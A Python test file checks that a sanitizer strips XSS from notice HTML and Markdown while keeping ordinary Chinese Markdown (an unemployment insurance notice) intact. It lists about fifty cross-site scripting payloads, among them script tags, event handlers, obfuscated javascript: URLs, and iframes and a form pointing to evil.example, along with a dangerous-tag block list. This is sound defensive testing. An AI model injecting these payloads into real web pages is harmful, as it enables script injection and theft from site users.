"""Notice HTML: XSS payloads never survive, ordinary Chinese Markdown does."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest

from content.library.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown, sanitize_html

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)' />",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    '<img src="jav&#x09;ascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">click</a>',
    '<a href="  javascript:alert(1)">click</a>',
    '<a href="java\nscript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="https://ok.example/" onclick="alert(1)">click</a>',
    '<a href="https://ok.example/" onmouseover=alert(1)>hover</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<p style="width: expression(alert(1))">styled</p>',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/steal"><input name=q><button>go</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<input autofocus onfocus=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<p <script>alert(1)</script>>nested</p>",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="/media/ok" title="x" onfocus="alert(1)" style="color:red">ok</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<textarea><script>alert(1)</script></textarea>",
]

MARKDOWN_PAYLOADS = [
    "[点我](javascript:alert(1))",
    "[点我](JaVaScRiPt:alert(1))",
    "[点我](data:text/html;base64,PHNjcmlwdD4=)",
    "![图](javascript:alert(1))",
    "![图](data:image/png;base64,iVBORw0KGgo=)",
    "[点我](vbscript:msgbox(1))",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](<javascript:alert(1)>)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<https://ok.example/> <javascript:alert(1)>",
    "**粗体<iframe src=https://evil.example>**",
]

DANGEROUS_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "style",
    "meta",
    "base",
    "form",
    "input",
    "svg",
    "math",
    "link",
    "textarea",
    "video",
    "source",
    "details",
    "body",
    "div",
}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def _parse(fragment: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    collector = _Collector()
    collector.feed(fragment)
    collector.close()
    return collector.tags


def assert_safe(output: str) -> None:
    lowered = output.lower()
    assert "<script" not in lowered
    # Escaped markup (``&lt;img onerror=…&gt;``) is harmless text; look for handlers inside real tags.
    for raw_tag in re.findall(r"<[^>]*>", lowered):
        assert not re.search(r"[\s/\"']on[a-z]+\s*=", raw_tag), output
    for tag, attrs in _parse(output):
        assert tag in ALLOWED_TAGS and tag not in DANGEROUS_TAGS, (tag, output)
        for name, value in attrs:
            allowed = ALLOWED_ATTRIBUTES.get(tag, frozenset()) | ({"rel"} if tag == "a" else set())
            assert name in allowed, (tag, name, output)
            if name in {"href", "src"}:
                url = re.sub(r"[\x00-\x20]", "", html.unescape(value or "")).lower()
                assert not url.startswith(("javascript:", "vbscript:", "data:")), (tag, name, value)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_html_payload_is_neutralised(payload: str) -> None:
    assert_safe(sanitize_html(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS + MARKDOWN_PAYLOADS)
def test_markdown_payload_is_neutralised(payload: str) -> None:
    assert_safe(render_markdown(payload))


def test_there_are_at_least_thirty_payloads() -> None:
    assert len(XSS_PAYLOADS) >= 30


def test_markdown_link_to_javascript_is_not_a_link() -> None:
    out = render_markdown("[点我](javascript:alert(1))")
    assert "<a" not in out


def test_links_get_noopener_and_keep_safe_schemes() -> None:
    out = render_markdown('[人社部](https://www.mohrss.gov.cn "官网") [电话](tel:12333) [信](mailto:a@b.cn)')
    links = [dict(attrs) for tag, attrs in _parse(out) if tag == "a"]
    assert [link["href"] for link in links] == ["https://www.mohrss.gov.cn", "tel:12333", "mailto:a@b.cn"]
    assert all(link["rel"] == "noopener noreferrer" for link in links)
    assert links[0]["title"] == "官网"


def test_images_only_from_the_web_or_our_media() -> None:
    out = sanitize_html(
        '<img src="/media/ab12" alt="a"><img src="https://x.cn/b.png" alt="b">'
        '<img src="ftp://x.cn/c.png" alt="c"><img src="//x.cn/d.png" alt="d">'
        '<img src="../etc/e.png" alt="e">'
    )
    srcs = [dict(attrs).get("src") for tag, attrs in _parse(out) if tag == "img"]
    assert srcs == ["/media/ab12", "https://x.cn/b.png", None, None, None]


def test_script_text_is_dropped_not_shown() -> None:
    assert sanitize_html("<p>前</p><script>alert(1)</script><p>后</p>") == "<p>前</p><p>后</p>"


CHINESE_NOTICE = """# 关于失业保险金申领的通知

## 一、申领条件

1. 失业前用人单位和本人已经缴纳失业保险费满一年；
2. 非因本人意愿中断就业；
3. 已经进行失业登记，并有求职要求。

## 二、所需材料

- 社会保障卡或**居民身份证**
- *失业登记证明*

| 缴费年限 | 领取期限 |
|---|---|
| 1-5年 | 最长12个月 |
| 5-10年 | 最长18个月 |

> 咨询电话：12333

详见[人社部官网](https://www.mohrss.gov.cn)。
"""


def test_chinese_markdown_survives_intact() -> None:
    out = render_markdown(CHINESE_NOTICE)
    assert "<h1>关于失业保险金申领的通知</h1>" in out
    assert "<h2>一、申领条件</h2>" in out
    assert "<li>非因本人意愿中断就业；</li>" in out
    assert "<ol>" in out and "<ul>" in out
    assert "<strong>居民身份证</strong>" in out and "<em>失业登记证明</em>" in out
    assert "<th>缴费年限</th>" in out and "<td>最长18个月</td>" in out
    assert "<table>" in out and "<thead>" in out and "<tbody>" in out
    assert "<blockquote>" in out and "咨询电话：12333" in out
    assert '<a href="https://www.mohrss.gov.cn" rel="noopener noreferrer">人社部官网</a>' in out
    assert_safe(out)


def test_sanitizing_clean_html_changes_nothing() -> None:
    clean = render_markdown(CHINESE_NOTICE)
    assert sanitize_html(clean) == clean
